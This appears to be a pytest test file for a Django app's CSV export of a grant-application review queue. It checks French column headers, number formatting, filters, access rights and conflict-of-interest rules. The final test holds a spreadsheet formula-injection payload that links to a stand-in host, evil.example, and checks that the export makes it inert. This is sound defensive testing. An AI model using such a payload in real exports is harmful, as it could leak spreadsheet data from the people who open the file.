"""CSV export of the filtered queue: chosen columns, French headers, `;`, UTF-8 with BOM, decimal comma, rights."""

import csv
import io
import sys
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse

sys.path.insert(0, str(Path(__file__).parent))

import test_queue_setup as setup  # noqa: E402
from test_queue_setup import ALES, ANDUZE, make_application, make_organisation, objective  # noqa: E402

contract, funders, call, make_user, people = setup.contract, setup.funders, setup.call, setup.make_user, setup.people
fast_password_hasher = setup.fast_password_hasher

pytestmark = pytest.mark.django_db


@pytest.fixture
def two(call, funders):
    state, agglo = funders
    org = make_organisation("Association « Les Cévennes » ; jeunesse")
    first = make_application(call, org, title="Soutien scolaire", codes=(ALES,), requested="1234.5",
                             claimed=[objective(call, "education")], requests=[(state, "1234.5")], blocking=1)
    second = make_application(call, org, status="admissible", title="Local jeunes", codes=(ALES, ANDUZE),
                              requested="12000", renewal=True, confirmed=objective(call, "youth"),
                              requests=[(state, "7000"), (agglo, "5000")], warnings=2)
    return first, second


def export(client, call, query):
    response = client.get(reverse("reviews:queue_csv", args=[call.slug]) + "?" + query)
    assert response.status_code == 200, response
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="instruction-ales-2027-')
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_chosen_columns_french_headers_and_numbers(client, call, people, two, funders):
    client.force_login(people["reviewer"])
    state, agglo = funders
    rows = export(client, call, "tri=montant&colonnes=reference&colonnes=organisation&colonnes=requested_total"
                                f"&colonnes=funder_{agglo.pk}&colonnes=neighbourhoods&colonnes=objective"
                                "&colonnes=renewal&colonnes=status&colonnes=findings_blocking")
    assert rows[0] == ["Numéro de dossier", "Structure", "Quartiers", "Statut", "Nouvelle action ou renouvellement",
                       "Montant demandé (€)", "Demandé à Alès Agglomération (€)", "Constats bloquants",
                       "Objectif confirmé"]
    first, second = two
    assert rows[1] == [first.reference, "Association « Les Cévennes » ; jeunesse", "Alès (QN03001I)",
                       "déposée", "nouvelle action", "1234,50", "", "1", "à confirmer"]
    assert rows[2] == [second.reference, "Association « Les Cévennes » ; jeunesse",
                       "Alès (QN03001I), Anduze (QN03002M)", "recevable, en instruction", "renouvellement",
                       "12000,00", "5000,00", "0", "Accompagner les jeunes vers l'autonomie"]
    assert len(rows) == 3


def test_export_follows_the_filters(client, call, people, two):
    client.force_login(people["observer"])
    rows = export(client, call, f"quartier={ANDUZE}&colonnes=reference")
    assert rows == [["Numéro de dossier"], [two[1].reference]]


def test_proposed_amounts_only_without_conflict(client, call, people, two, funders):
    from quartiers.reviews.models import Assessment, ConflictOfInterest

    Assessment.objects.create(application=two[0], funder=funders[0], opinion="favourable",
                              proposed_amount=Decimal("1000.5"))
    Assessment.objects.create(application=two[1], funder=funders[0], opinion="favourable",
                              proposed_amount=Decimal("6000"))
    Assessment.objects.create(application=two[1], funder=funders[1], proposed_amount=Decimal("4000"))
    ConflictOfInterest.objects.create(application=two[1], user=people["reviewer"])
    client.force_login(people["reviewer"])
    rows = export(client, call, "tri=montant&colonnes=reference&colonnes=opinions&colonnes=proposed_total")
    assert rows[1:] == [[two[0].reference, "1", "1000,50"], [two[1].reference, "", ""]]
    client.force_login(people["project_lead"])
    rows = export(client, call, "tri=montant&colonnes=reference&colonnes=opinions&colonnes=proposed_total")
    assert rows[2] == [two[1].reference, "1", "10000,00"]


def test_no_column_or_unknown_column_is_refused_in_french(client, call, people, two):
    client.force_login(people["reviewer"])
    url = reverse("reviews:queue_csv", args=[call.slug])
    response = client.get(url + f"?quartier={ANDUZE}", follow=True)
    assert response.redirect_chain[-1][0].endswith(f"?quartier={ANDUZE}")
    assert "Export impossible. Colonnes du fichier : cochez au moins une colonne." in response.content.decode()
    response = client.get(url + "?colonnes=mot_de_passe", follow=True)
    assert "Colonnes du fichier : la colonne « mot_de_passe » n&#x27;existe pas." in response.content.decode()


@pytest.mark.parametrize("who", ["resident", "outsider", "applicant"])
def test_export_is_refused_without_the_right(client, call, people, two, who):
    client.force_login(people[who])
    response = client.get(reverse("reviews:queue_csv", args=[call.slug]) + "?colonnes=reference")
    assert response.status_code == 403
    assert "Accès refusé" in response.content.decode()


def test_queue_page_offers_the_columns_and_keeps_the_filters(client, call, people, two, funders):
    client.force_login(people["reviewer"])
    page = client.get(reverse("reviews:queue", args=[call.slug]) + f"?quartier={ANDUZE}").content.decode()
    assert f'<input type="hidden" name="quartier" value="{ANDUZE}">' in page
    assert f'value="funder_{funders[1].pk}"' in page and "Demandé à Alès Agglomération (€)" in page
    assert 'name="colonnes" value="reference" id="colonne-reference" checked' in page


def test_export_query_count_does_not_grow_with_rows(client, call, people, funders, django_assert_max_num_queries):
    org = make_organisation("Beaucoup")
    for i in range(40):
        make_application(call, org, requested=str(100 + i), requests=[(funders[0], "50"), (funders[1], "50")])
    client.force_login(people["project_lead"])
    every = "&".join(f"colonnes={k}" for k in ("reference", "organisation", "theme", "proposed_total",
                                               f"funder_{funders[0].pk}"))
    with django_assert_max_num_queries(15):
        rows = export(client, call, every)
    assert len(rows) == 41


def test_text_starting_like_a_formula_is_made_inert(client, call, people, funders):
    state, _agglo = funders
    org = make_organisation("@Association piégée")
    make_application(call, org, title='=HYPERLINK("http://evil.example/?"&A2,"Cliquez")', codes=(ALES,),
                     requested="100", requests=[(state, "100")])
    client.force_login(people["reviewer"])
    rows = export(client, call, "colonnes=organisation&colonnes=title&colonnes=requested_total")
    assert rows[1] == ["'@Association piégée", "'=HYPERLINK(\"http://evil.example/?\"&A2,\"Cliquez\")", "100,00"]
